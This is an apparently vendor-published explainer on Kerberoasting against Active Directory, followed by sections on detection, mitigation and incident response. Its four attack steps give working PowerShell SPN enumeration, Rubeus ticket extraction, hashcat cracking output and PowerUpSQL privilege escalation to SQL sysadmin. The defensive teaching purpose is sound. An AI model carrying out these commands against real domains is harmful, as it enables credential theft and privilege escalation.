Kerberoasting abuses traits of the Kerberos protocol to harvest password hashes for Active Directory user accounts with servicePrincipalName (SPN) values (i.e. service accounts). A user is allowed to request a ticket-granting service (TGS) ticket for any SPN, and parts of the TGS may be encrypted with the with RC4 using the password hash of the service account assigned the requested SPN as the key.

An adversary who is able to extract the TGS tickets from memory, or captures them by sniffing network traffic, can extract the service account’s password hashand attempt an offline brute force attack to obtain the plaintext password.

Threat Summary


Active Directory

ATT&CK® Tactic:

ATT&CK Technique:








How Kerberoasting Works

Hover to see each step

Step 1: An adversary may target specific service accounts to Kerberoast if they first conducted internal reconnaissance to find service accounts with privileges they desire. Or, an adversary may Kerberoast as many accounts as possible. In either case, the adversary needs to enumerate the servicePrincipalNames for the service accounts they wish to Kerberoast.

An adversary can use LDAP to query Active Directory for any user accounts with defined SPNs. In this example, the adversary is casting a wide net and is querying Active Directory for all user accounts.

#Build LDAP Filter to look for users with SPN values registered for current domain
$ldapFilter = "(&(objectClass=user)(objectCategory=user)(servicePrincipalName=*))"
$domain = New-Object System.DirectoryServices.DirectoryEntry
$search = New-Object System.DirectoryServices.DirectorySearcher$search.SearchRoot = $domain
$search.PageSize = 1000
$search.Filter = $ldapFilter
$search.SearchScope = "Subtree"
#Execute Search
$results = $search.FindAll()
#Display SPN values from the returned objects
$Results = foreach ($result in $results)
    $result_entry = $result.GetDirectoryEntry()
    $result_entry | Select-Object @{
        Name = "Username";  Expression = { $_.sAMAccountName }
    }, @{
        Name = "SPN"; Expression = { $_.servicePrincipalName | Select-Object -First 1 }
Username        SPN---        ---
ServiceAccount1 http/webserver1
ServiceAccount2 cifs/appserver2

Step 2: After completing the enumeration of service accounts and SPNs, the adversary then requests Kerberos ticket-granting service tickets for the services, extracts the hashes from memory, and saves them for later offline brute force. Tools such as Rubeus fully automate the process.

PS> .\Rubeus.exe kerberoast /simple /outfile:hashes.txt
[*] Action: Kerberoasting
[*] NOTICE: AES hashes will be returned for AES-enabled accounts.
[*]         Use /ticket:X or /tgtdeleg to force RC4_HMAC for these accounts.
[*] Searching the current domain for Kerberoastable users
[*] Total kerberoastable users : 2
[*] Hash written to C:\Tools\hashes.txt
[*] Roasted hashes written to : C:\Tools\hashes.txt
PS> Get-Content .\hashes.txt
# ... output truncated ... #

Step 3: Now that the adversary has obtained a list of password hashes, they need to brute force (“crack”) the plaintext password. This brute force attack happens offline, meaning no more communication with Active Directory needs to occur. As a result, this step is undetectable. An adversary may even exfiltrate the list of hashes and use a high-performance system dedicated and designed just for password cracking. Tools such as hashcat are used to perform the offline brute force attack. Dictionaries of common passwords can be used, which can help expedite cracking when common or weak passwords are used. The SecLists repository maintains a number of example dictionaries.

PS> .\hashcat.exe -m 13100 -o cracked.txt -a 0 .\Hash.txt .\wordlist.txt
Session..........: hashcat
Status...........: Cracked
Hash.Name........: Kerberos 5, etype 23,TGS-REP
Hash.Target......: $krb5tgs$23$*USER$DOMAIN$http/webserver1*$e556af133...b80b25
Time.Started.....: Thu Jul 23 18:58:36 2020 (0 secs)
Time.Estimated...: Thu Jul 23 18:58:36 2020 (0 secs)
Guess.Base.......: File (.\wordlist.txt)
Guess.Queue......: 1/1 (100.00%)
Speed.#1.........:    97694 H/s (0.26ms) @ Accel:256 Loops:1 Thr:64 Vec:1
Recovered........: 1/1 (100.00%) DigestsProgress.........: 100/100 (100.00%)
Rejected.........: 0/100 (0.00%)
Restore.Point....: 0/100 (0.00%)
Restore.Sub.#1...: Salt:0 Amplifier:0-1 Iteration:0-1
Candidates.#1....: 123456 -> taylor
Hardware.Mon.#1..: Temp: 47c Fan: 34% Util: 32% Core:1265MHz Mem:2504MHz Bus:16
PS> Get-Content .\cracked.txt
# ServiceAccount1 has a password of: P@ssword!23

Step 4: Having obtained the plaintext password, the adversary can use the credentials to authenticate to any resources the service account has access to, potentially allowing them to compromise data or escalate privileges. In this example, the attacker uses the credentials compromised from the webserver to authenticate directly to the database it accesses, and then exploits configuration vulnerabilities to escalate their privileges to a database administrator.

PS> runas /netonly /User:ServiceAccount1 powershell.exe
Enter the password for ServiceAccount1: P@ssword!23
PS> Import-Module .\PowerUPSQL
PS> $SQLServers = Get-SQLInstanceDomain | Get-SQLConnectionTestThreaded | Where-object { $_.Status -eq "Accessible" }
PS>$SQLServers | Get-SQLServerInfo | Select-Object Instance, IsSysadmin -Unique
Instance        IsSysadmin
---        ---
SQLServer1      No
PS> Invoke-SQLEscalatePriv -Instance SQLServer1 -Verbose
VERBOSE: SQLServer1 : Checking if you're already a sysadmin...
VERBOSE: SQLServer1 : You're not a sysadmin, attempting to change that...
# ... output truncated ... #
VERBOSE: SQLServer1 : Success! You are now a Sysadmin!
PS> $SQLServers | Get-SQLServerInfo | Select-Object Instance, IsSysadmin -UniqueInstance        IsSysadmin
---        ---
SQLServer1      Yes

Detect, Mitigate, and Respond

Difficulty: Medium

It is possible to detect several aspects of Kerberoasting by monitoring the Windows event log for anomalous ticket-granting service (TGS) requests. Event IDs 4769 and 4770 in subcategory Audit Kerberos Service Ticket Operations audits all TGS requests and renewals. These events should be examined for:

  • Use of RC4 encryption: As RC4 is considered a weak algorithm, TGS requests and replies including an encryptionType of 0x17 (rc4-hmac) are suspicious. RC4 hashes can be more easily brute forced than AES, and an adversary may attempt to explicitly request RC4 for this purpose.
  • Abnormal volume of TGS requests: Adversaries casting a wide net, or running Kerberoasting tools with default configuration options may trigger a large number of TGS requests than normally observed for a given user. Establishing a baseline for TGS request volume and detecting deviations from it can be a valuable signal of Kerberoasting.

Additionally, establishing a Kerberoasting honeypot (e.g. a user with defined SPNs that isn’t actually used) can increase your ability to detect early reconnaissance and actualKerberoasting activity.

Difficulty: Hard

As we’ve demonstrated, Kerberoasting can lead to the compromise of sensitive service account passwords. However, several mitigations exist that greatly reduce or even eliminate these risks.

  • Rejectauthentication requests not using Kerberos Flexible Authentication Secure Tunneling (FAST) (also called Kerberos Armoring), a pre-authentication extension that establishes a pre-authentication secure channel between the client and domain controller, and is designed to better protect Kerberos tickets from offline password cracking attempts. While enabling FAST can eliminate the risk posed by Kerberoasting, it can be challenging for organizations to rapidly enable and enforce.
  • Eliminate the use of insecure protocols in Kerberos. While entirely disabling RC4 is another large undertaking, it is possible to configure individual service accounts to not permit the RC4 protocol. The attribute msDS-SupportedEncryptionTypes can be set to 0x18 (decimal 24) to enable only AES128 and AES256. This has the added benefit of increasing the sensitivity of the detection — if RC4 is observed in a TGS request then it is more strongly a sign of malicious activity.
  • Adopt strong password hygiene practices for service accounts. Their passwords should be randomly generated, a minimum of 30 characters, and routinely changed.
  • Where possible, adopt the use of group Managed Service Accounts (gMSA). The passwords (256 random bytes) for gMSA’s are generated and frequently changed by Active Directory, removing this burden from administrators.
  • Audit the assignment of servicePrincipalNames to sensitive user accounts. For example, members of Domain Admins should not be used as service accounts (and therefore not have SPNs assigned).

Difficulty: Hard

If Kerberoasting is detected, there are several response actions that should be taken:

  • Activate the incident response process and alert the incident response team.
  • Quarantine any implicated computers (e.g. the host that requested service tickets) for forensic investigation, as well as eradication and recovery activities.
  • Resetthe password for the user performing the Kerberoasting.
  •Reset the password for anyservice accounts for which TGStickets were requested. Priority shouldbe given to privileged accounts.